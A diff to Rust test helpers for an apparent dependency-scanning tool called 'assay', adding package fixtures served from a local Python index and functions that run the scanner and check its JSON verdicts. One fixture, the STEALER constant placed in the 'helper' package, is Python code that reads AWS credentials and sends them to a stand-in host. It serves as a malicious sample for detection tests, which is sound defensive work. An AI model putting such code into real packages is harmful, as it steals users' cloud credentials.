@@ -8,7 +8,11 @@ use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
 
+use assert_cmd::prelude::*;
+use serde_json::Value;
 use sha2::{Digest, Sha256};
+
+pub mod proxy;
 
 /// A pypiserver process serving a folder of distributions on 127.0.0.1.
 ///
@@ -216,4 +220,138 @@ pub fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
     let path = dir.join(name);
     std::fs::write(&path, text).expect("write");
     path
+}
+
+// Fixtures and helpers shared by the index tests.
+
+pub const STEALER: &str = "import os, urllib.request\n\
+creds = open(os.path.expanduser('~/.aws/credentials')).read()\n\
+urllib.request.urlopen('https://collect.example/c', data=creds.encode())\n";
+
+pub fn tidy() -> Dist<'static> {
+    Dist {
+        name: "tidy",
+        version: "1.0",
+        requires: &[],
+        files: &[("tidy/__init__.py", "def tidy(x):\n    return x.strip()\n")],
+    }
+}
+
+pub fn app() -> Dist<'static> {
+    Dist {
+        name: "app",
+        version: "1.0",
+        requires: &["helper>=0.1", "tidy"],
+        files: &[("app/__init__.py", "import helper\n")],
+    }
+}
+
+pub fn helper() -> Dist<'static> {
+    Dist {
+        name: "helper",
+        version: "0.2",
+        requires: &[],
+        files: &[("helper/__init__.py", STEALER)],
+    }
+}
+
+/// The index with tidy (sdist and wheel), app (wheel) and helper (wheel).
+pub fn server() -> IndexServer {
+    IndexServer::start(&[
+        tidy().sdist(),
+        tidy().wheel(),
+        app().wheel(),
+        helper().wheel(),
+    ])
+}
+
+/// `assay scan --format json` with a cache folder, for Python 3.11, with no
+/// index, retry, timeout or proxy setting from the environment.
+pub fn assay(cache: &Path) -> Command {
+    assay_as("json", cache)
+}
+
+/// `assay scan --format FORMAT`, otherwise as [`assay`].
+pub fn assay_as(format: &str, cache: &Path) -> Command {
+    let mut cmd = Command::cargo_bin("assay").expect("binary");
+    for var in [
+        "PIP_INDEX_URL",
+        "PIP_EXTRA_INDEX_URL",
+        "UV_DEFAULT_INDEX",
+        "UV_INDEX_URL",
+        "UV_INDEX",
+        "UV_EXTRA_INDEX_URL",
+        "PIP_RETRIES",
+        "PIP_TIMEOUT",
+        "PIP_DEFAULT_TIMEOUT",
+        "PIP_PROXY",
+        "http_proxy",
+        "HTTP_PROXY",
+        "https_proxy",
+        "HTTPS_PROXY",
+        "all_proxy",
+        "ALL_PROXY",
+    ] {
+        cmd.env_remove(var);
+    }
+    cmd.env("PIP_CONFIG_FILE", "/dev/null")
+        .env("NO_COLOR", "1")
+        .args(["scan", "--format", format, "--python-version", "3.11"])
+        .arg("--cache-dir")
+        .arg(cache);
+    cmd
+}
+
+/// The standard error of a run, as text.
+pub fn stderr(output: &std::process::Output) -> String {
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+/// The JSON report of a run that exited with `code` (standard error is
+/// shown when it did not).
+pub fn report(output: &std::process::Output, code: i32) -> Value {
+    assert_eq!(output.status.code(), Some(code), "{}", stderr(output));
+    json(output)
+}
+
+/// The artifacts' targets, in order.
+pub fn targets(doc: &Value) -> Vec<&str> {
+    doc["artifacts"]
+        .as_array()
+        .expect("artifacts")
+        .iter()
+        .map(|a| a["target"].as_str().expect("target"))
+        .collect()
+}
+
+/// Checks that each artifact named (by the start of its target) has the
+/// verdict `label`.
+pub fn assert_verdicts(doc: &Value, label: &str, names: &[&str]) {
+    for name in names {
+        let found = artifact(doc, name);
+        assert_eq!(found["verdict"]["label"], label, "{name}: {found:#}");
+    }
+}
+
+pub fn json(output: &std::process::Output) -> Value {
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
+        panic!(
+            "not JSON ({e}): {}\nstderr: {}",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr)
+        )
+    })
+}
+
+pub fn artifact<'a>(doc: &'a Value, filename_start: &str) -> &'a Value {
+    doc["artifacts"]
+        .as_array()
+        .expect("artifacts")
+        .iter()
+        .find(|a| {
+            a["target"]
+                .as_str()
+                .is_some_and(|t| t.starts_with(filename_start))
+        })
+        .unwrap_or_else(|| panic!("no artifact {filename_start} in {doc:#}"))
 }
